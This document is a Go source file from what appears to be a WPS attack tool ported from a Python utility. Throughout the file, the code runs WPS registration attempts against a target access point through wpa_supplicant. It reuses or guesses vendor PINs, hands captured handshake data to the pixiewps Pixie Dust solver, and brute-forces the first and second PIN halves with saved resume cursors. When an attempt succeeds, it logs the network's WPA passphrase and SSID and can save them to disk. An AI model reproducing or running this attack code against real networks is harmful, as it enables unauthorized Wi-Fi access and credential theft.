// Package session implements the WPS attack orchestrator (component C8):
// a single registration attempt, and the smart bruteforce walk across the
// first- and second-half PIN space.
//
// Grounded on Companion.single_connection/__wps_connection/
// __first_half_bruteforce/__second_half_bruteforce/smart_bruteforce in
// original_source/src/wps_connection.py. The interrupt flag is an
// abool.AtomicBool, the same pattern vaultdb.Connector uses for a flag read
// from one goroutine and written from another (here: a SIGINT handler
// racing the bruteforce loop). The optional inter-attempt delay is a
// golang.org/x/time/rate.Limiter rather than a raw time.Sleep, so a caller
// can bound attempts-per-second without hand-rolling pacing arithmetic.
package session

import (
	"bufio"
	"context"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"github.com/pkg/errors"
	"github.com/tevino/abool"
	"go.uber.org/zap"
	"golang.org/x/time/rate"

	"github.com/raisul587/osup/internal/aputil"
	"github.com/raisul587/osup/internal/netaddr"
	"github.com/raisul587/osup/internal/pingen"
	"github.com/raisul587/osup/internal/pixie"
	"github.com/raisul587/osup/internal/store"
	"github.com/raisul587/osup/internal/supplicant"
	"github.com/raisul587/osup/internal/wpsevent"
	"github.com/raisul587/osup/internal/wpsstate"
)

// EmptyPin is the catch-all fallback PIN (the common "1234567" body plus its
// checksum digit) used when no PIN was generated, selected, or supplied.
const EmptyPin = "12345670"

// ErrUserAbort reports that an interactive prompt required to proceed
// (PIN reuse confirmation, PIN selection, resume confirmation) could not
// be answered — stdin closed or returned EOF mid-prompt.
var ErrUserAbort = errors.New("aborted by user")

// Prompter asks the operator yes/no and multiple-choice questions during
// an attack run. Grounded on __wps_connection's input()-based prompts in
// original_source/src/wps_connection.py: confirming reuse of a memoized
// Pixie Dust PIN, and selecting one candidate out of the suggested list
// when neither Pixie Dust nor PBC mode is in play. A stub implementation
// lets tests exercise SingleConnection without a real terminal attached.
type Prompter interface {
	// Confirm asks a yes/no question, defaulting to "yes" on a plain
	// Enter — matching the original's "[n/Y]" prompts, which treat
	// anything but a literal "n" as assent.
	Confirm(question string) (bool, error)
	// SelectPin asks the operator to choose one of candidates, or returns
	// ("", nil) unprompted if candidates is empty. A single candidate is
	// auto-selected and merely announced, matching the original tool's
	// behavior when only one vendor algorithm matches the target OUI.
	SelectPin(candidates []pingen.Candidate) (string, error)
}

// StdinPrompter is the default Prompter, reading from os.Stdin.
type StdinPrompter struct {
	scanner *bufio.Scanner
}

// NewStdinPrompter returns a Prompter backed by the process's stdin.
func NewStdinPrompter() *StdinPrompter {
	return &StdinPrompter{scanner: bufio.NewScanner(os.Stdin)}
}

// Confirm implements Prompter.
func (p *StdinPrompter) Confirm(question string) (bool, error) {
	fmt.Printf("[?] %s [n/Y] ", question)
	if !p.scanner.Scan() {
		return false, ErrUserAbort
	}
	return strings.ToLower(strings.TrimSpace(p.scanner.Text())) != "n", nil
}

// SelectPin implements Prompter.
func (p *StdinPrompter) SelectPin(candidates []pingen.Candidate) (string, error) {
	switch len(candidates) {
	case 0:
		return "", nil
	case 1:
		fmt.Printf("[i] the only probable PIN is selected: %s\n", candidates[0].Name)
		return candidates[0].Pin, nil
	}

	fmt.Println("PINs generated for target:")
	fmt.Printf("%-3s %-10s %s\n", "#", "PIN", "Name")
	for i, c := range candidates {
		fmt.Printf("%-3s %-10s %s\n", fmt.Sprintf("%d)", i+1), c.Pin, c.Name)
	}

	for {
		fmt.Print("Select the PIN: ")
		if !p.scanner.Scan() {
			return "", ErrUserAbort
		}
		n, err := strconv.Atoi(strings.TrimSpace(p.scanner.Text()))
		if err != nil || n < 1 || n > len(candidates) {
			fmt.Println("invalid number")
			continue
		}
		return candidates[n-1].Pin, nil
	}
}

// retryBurstLimit/retryBurstWindow bound how many timeout and deauth
// retries wpsConnection will absorb within a short window before giving up,
// independent of the protocol-level MaxRetries budget. A NACK or WPS_FAIL
// retry does not count against this window.
const (
	retryBurstLimit  = 10
	retryBurstWindow = 5 * time.Second
)

// Options configures one Session.
type Options struct {
	Interface    string
	Drivers      string
	SaveResult   bool
	PrintDebug   bool
	PixieForce   bool
	ShowPixieCmd bool
	PixiewpsBin  string
	Delay        time.Duration
	// Prompter answers the interactive questions SingleConnection asks
	// when a PIN isn't supplied outright. Defaults to a StdinPrompter.
	Prompter Prompter
}

// Session drives one or more WPS registration attempts against a single
// target, coordinating the supplicant controller, the event parser, the
// Pixie Dust solver, and on-disk persistence.
type Session struct {
	opts  Options
	log   *zap.SugaredLogger
	store *store.Store

	ctrl   *supplicant.Controller
	conn   *wpsstate.Connection
	creds  *pixie.Data
	solver *pixie.Solver

	interrupted *abool.AtomicBool
	pacer       *rate.Limiter
	retryPace   *aputil.PaceTracker

	// attempt and connect default to s.SingleConnection/s.wpsConnection.
	// Indirecting through fields (rather than calling the methods
	// directly) lets tests substitute a scripted stand-in for the
	// supplicant/wpsevent layers when exercising the bruteforce walk and
	// the prompting logic in isolation.
	attempt func(ctx context.Context, bssid, pin string, pixiemode, pbcMode, storePinOnFail bool) (bool, error)
	connect func(bssid, pin string, pixiemode, pbcMode bool) error
}

// New starts the underlying wpa_supplicant process and returns a ready
// Session. Callers must call Close when done.
func New(opts Options, st *store.Store, log *zap.SugaredLogger) (*Session, error) {
	ctrl, err := supplicant.Start(opts.Interface, opts.Drivers, log)
	if err != nil {
		return nil, err
	}

	var pacer *rate.Limiter
	if opts.Delay > 0 {
		pacer = rate.NewLimiter(rate.Every(opts.Delay), 1)
	}

	binPath := opts.PixiewpsBin
	if binPath == "" {
		binPath = "pixiewps"
	}
	if opts.Prompter == nil {
		opts.Prompter = NewStdinPrompter()
	}

	s := &Session{
		opts:        opts,
		log:         log,
		store:       st,
		ctrl:        ctrl,
		conn:        wpsstate.NewConnection(log),
		creds:       &pixie.Data{},
		solver:      pixie.NewSolver(binPath, log),
		interrupted: abool.NewBool(false),
		pacer:       pacer,
		retryPace:   aputil.NewPaceTracker(retryBurstLimit, retryBurstWindow),
	}
	s.creds.Clear()
	s.attempt = s.SingleConnection
	s.connect = s.wpsConnection
	return s, nil
}

// Interrupt marks the session as having received a cancellation request
// (e.g. SIGINT); in-flight loops check this between attempts and persist
// their cursor before unwinding.
func (s *Session) Interrupt() {
	s.interrupted.Set()
}

// Interrupted reports whether Interrupt has been called.
func (s *Session) Interrupted() bool {
	return s.interrupted.IsSet()
}

// Close tears down the supplicant controller and every temp file it owns.
func (s *Session) Close() {
	s.ctrl.Close()
}

// wpsConnection drives a single WPS_REG (or WPS_PBC) exchange to
// completion: OK/fail on the initial command, then pumping the debug
// stream until a terminal status or phase timeout.
func (s *Session) wpsConnection(bssid, pin string, pixiemode, pbcMode bool) error {
	s.creds.Clear()
	s.conn.Clear()

	var cmd string
	if pbcMode {
		if bssid != "" {
			cmd = fmt.Sprintf("WPS_PBC %s", bssid)
		} else {
			cmd = "WPS_PBC"
		}
	} else {
		cmd = fmt.Sprintf("WPS_REG %s %s", bssid, pin)
	}

	reply, err := s.ctrl.SendAndReceive(cmd)
	if err != nil {
		return err
	}
	if !containsOK(reply) {
		s.conn.Status = wpsstate.StatusWPSFail
		return errors.New(explainNotOK(cmd, reply))
	}

	s.conn.SetPhase(wpsstate.WPSStart)
	parser := wpsevent.New(s.opts.Interface, pixiemode, pbcMode, s.conn, s.creds, s.log)

	for {
		if s.Interrupted() {
			s.ctrl.SendOnly("WPS_CANCEL")
			return errors.New("interrupted")
		}
		if s.conn.TimedOut() {
			return s.handleTimeout(bssid, pin, pixiemode, pbcMode)
		}

		line, err := s.ctrl.ReadDebugLine()
		if err != nil {
			break
		}
		if s.opts.PrintDebug {
			s.log.Debug(line)
		}

		outcome := parser.Handle(line)

		if outcome.Err != nil {
			s.ctrl.SendOnly("WPS_CANCEL")
			return outcome.Err
		}

		if outcome.Deauthenticated || outcome.Disconnected || outcome.AssociationFailed {
			return s.handleDeauth(bssid, pin, pixiemode, pbcMode)
		}

		switch s.conn.Status {
		case wpsstate.StatusNACK:
			if s.conn.Phase >= wpsstate.WPSM5 {
				s.log.Warn("late stage WPS failure - could be wrong second half of pin")
			}
			s.ctrl.SendOnly("WPS_CANCEL")
			return nil
		case wpsstate.StatusGotPSK:
			s.ctrl.SendOnly("WPS_CANCEL")
			return nil
		case wpsstate.StatusWPSFail:
			if s.conn.CanRetry() {
				s.log.Warn("WPS failure detected, retrying")
				s.ctrl.SendOnly("WPS_CANCEL")
				time.Sleep(time.Second)
				return s.wpsConnection(bssid, pin, pixiemode, pbcMode)
			}
			s.ctrl.SendOnly("WPS_CANCEL")
			return nil
		}
	}

	s.ctrl.SendOnly("WPS_CANCEL")
	return nil
}

func (s *Session) handleTimeout(bssid, pin string, pixiemode, pbcMode bool) error {
	s.log.Warn("connection timed out, retrying")
	if !s.conn.IncrementRetry() {
		s.log.Warn("maximum retries reached")
		return nil
	}
	if err := s.retryPace.Tick(); err != nil {
		return errors.Wrap(err, "aborting: retry loop exceeded its pace budget")
	}
	s.ctrl.SendOnly("WPS_CANCEL")
	time.Sleep(time.Second)
	return s.wpsConnection(bssid, pin, pixiemode, pbcMode)
}

func (s *Session) handleDeauth(bssid, pin string, pixiemode, pbcMode bool) error {
	s.log.Warn("deauthenticated, attempting to reconnect")
	if !s.conn.IncrementRetry() {
		s.log.Warn("maximum retries reached")
		return nil
	}
	if err := s.retryPace.Tick(); err != nil {
		return errors.Wrap(err, "aborting: retry loop exceeded its pace budget")
	}
	time.Sleep(2 * time.Second)
	return s.wpsConnection(bssid, pin, pixiemode, pbcMode)
}

func containsOK(reply string) bool {
	for i := 0; i+2 <= len(reply); i++ {
		if reply[i:i+2] == "OK" {
			return true
		}
	}
	return false
}

func explainNotOK(cmd, reply string) string {
	if (hasPrefix(cmd, "WPS_REG") || hasPrefix(cmd, "WPS_PBC")) && reply == "UNKNOWN COMMAND" {
		return "wpa_supplicant looks like it was built without WPS support (CONFIG_WPS=y)"
	}
	return "something went wrong - check the debug log"
}

func hasPrefix(s, prefix string) bool {
	return len(s) >= len(prefix) && s[:len(prefix)] == prefix
}

// SingleConnection drives one registration attempt with pin (or a
// generated/memoized candidate, if pin is empty), saving and reporting the
// recovered PSK on success. storePinOnFail persists pin as a Pixie Dust
// memo when the attempt errors or ends without a PSK, so a later run can
// resume without re-deriving it.
func (s *Session) SingleConnection(ctx context.Context, bssid, pin string, pixiemode, pbcMode, storePinOnFail bool) (bool, error) {
	if pin == "" && !pbcMode {
		if pixiemode {
			if memo, ok, _ := s.store.LoadPin(bssid); ok {
				use, err := s.opts.Prompter.Confirm(fmt.Sprintf("use previously calculated PIN %s?", memo))
				if err != nil {
					return false, err
				}
				if use {
					pin = memo
				}
			}
			if pin == "" {
				if mac, err := netaddr.Parse(bssid); err == nil {
					if likely, ok := pingen.Likely(mac); ok {
						pin = likely
					}
				}
			}
		} else {
			if mac, err := netaddr.Parse(bssid); err == nil {
				selected, err := s.opts.Prompter.SelectPin(pingen.Suggested(mac))
				if err != nil {
					return false, err
				}
				pin = selected
			}
		}
		if pin == "" {
			pin = EmptyPin
		}
	}

	if pbcMode {
		if err := s.connect(bssid, "", false, true); err != nil {
			return false, err
		}
		bssid = s.conn.BSSID
		pin = "<PBC mode>"
	} else {
		err := s.connect(bssid, pin, pixiemode, false)
		if err != nil {
			if storePinOnFail {
				s.store.SavePin(bssid, pin)
			}
			return false, err
		}
	}

	if s.conn.Status == wpsstate.StatusGotPSK {
		s.log.Infof("WPS PIN: '%s'", pin)
		s.log.Infof("WPA PSK: '%s'", s.conn.WPAPSK)
		s.log.Infof("AP SSID: '%s'", s.conn.ESSID)

		if s.opts.SaveResult {
			if err := s.store.SaveResult(store.Credential{
				BSSID: bssid, ESSID: s.conn.ESSID, WPSPin: pin, WPAPSK: s.conn.WPAPSK,
			}, time.Now()); err != nil {
				s.log.Errorw("failed to save credentials", "err", err)
			}
		}
		if !pbcMode {
			s.store.DeletePin(bssid)
		}
		return true, nil
	}

	if pixiemode {
		if !s.creds.GotAll() {
			s.log.Warn("not enough data to run Pixie Dust attack")
			return false, nil
		}
		recovered, ok, err := s.solver.Run(ctx, s.creds, s.opts.PixieForce, s.opts.ShowPixieCmd)
		if err != nil || !ok {
			return false, err
		}
		return s.SingleConnection(ctx, bssid, recovered, false, false, true)
	}

	if storePinOnFail {
		s.store.SavePin(bssid, pin)
	}
	return false, nil
}

// candidatePin builds a full checksummed 8-digit PIN from a 7-digit mask:
// a 4-digit first half alone (second half assumed zero) or a full 7-digit
// body once the first half has been confirmed.
func candidatePin(mask string) (string, error) {
	body := mask
	for len(body) < 7 {
		body += "0"
	}
	n, err := strconv.Atoi(body)
	if err != nil {
		return "", err
	}
	return body + strconv.Itoa(pingen.Checksum(n)), nil
}

// SmartBruteforce walks the WPS PIN space the way the original tool's
// smart_bruteforce does: a 10,000-value first-half search that only needs
// to find the mask the AP accepts past M5, followed by a 1,000-value
// second-half search once the first half is fixed. start resumes from a
// previously persisted cursor (a 4- or 7-digit mask); an empty start
// begins at "0000". Returns the recovered PIN, or ok=false if the space
// was exhausted or the session was interrupted first.
func (s *Session) SmartBruteforce(ctx context.Context, bssid, start string) (string, bool, error) {
	bf := wpsstate.NewBruteforce(s.log)

	mask := start
	if mask == "" {
		mask = "0000"
	}

	if len(mask) == 7 {
		return s.secondHalfBruteforce(ctx, bssid, mask, bf)
	}

	firstHalf := 0
	if len(mask) >= 4 {
		fmt.Sscanf(mask[:4], "%04d", &firstHalf)
	}

	for firstHalf < 10000 {
		if s.Interrupted() {
			s.store.SaveCursor(bssid, fmt.Sprintf("%04d", firstHalf))
			return "", false, nil
		}
		if err := s.pace(ctx); err != nil {
			return "", false, err
		}

		candidateMask := fmt.Sprintf("%04d", firstHalf)
		pin, err := candidatePin(candidateMask)
		if err != nil {
			return "", false, err
		}
		bf.RegisterAttempt(candidateMask)

		ok, err := s.attempt(ctx, bssid, pin, false, false, false)
		if err != nil {
			return "", false, err
		}
		if ok {
			return pin, true, nil
		}
		if s.conn.IsFirstHalfValid() {
			s.store.SaveCursor(bssid, candidateMask)
			return s.secondHalfBruteforce(ctx, bssid, candidateMask, bf)
		}
		if s.conn.Status == wpsstate.StatusWPSFail {
			s.log.Warn("WPS transaction failed, re-trying last pin")
			continue
		}
		s.store.SaveCursor(bssid, candidateMask)
		firstHalf++
	}

	s.log.Warn("first half not found")
	return "", false, nil
}

func (s *Session) secondHalfBruteforce(ctx context.Context, bssid, firstHalf string, bf *wpsstate.Bruteforce) (string, bool, error) {
	start := 0
	if len(firstHalf) == 7 {
		fmt.Sscanf(firstHalf[4:], "%03d", &start)
		firstHalf = firstHalf[:4]
	}

	secondHalf := start
	for secondHalf < 1000 {
		if s.Interrupted() {
			s.store.SaveCursor(bssid, fmt.Sprintf("%s%03d", firstHalf, secondHalf))
			return "", false, nil
		}
		if err := s.pace(ctx); err != nil {
			return "", false, err
		}

		mask := fmt.Sprintf("%s%03d", firstHalf, secondHalf)
		pin, err := candidatePin(mask)
		if err != nil {
			return "", false, err
		}
		bf.RegisterAttempt(mask)

		ok, err := s.attempt(ctx, bssid, pin, false, false, false)
		if err != nil {
			return "", false, err
		}
		if ok {
			return pin, true, nil
		}
		if s.conn.Status == wpsstate.StatusWPSFail {
			s.log.Warn("WPS transaction failed, re-trying last pin")
			continue
		}
		s.store.SaveCursor(bssid, mask)
		secondHalf++
	}

	return "", false, nil
}

// pace blocks until the next bruteforce attempt is allowed, respecting
// both the configured --delay limiter and ctx cancellation.
func (s *Session) pace(ctx context.Context) error {
	if s.pacer == nil {
		return nil
	}
	return s.pacer.Wait(ctx)
}
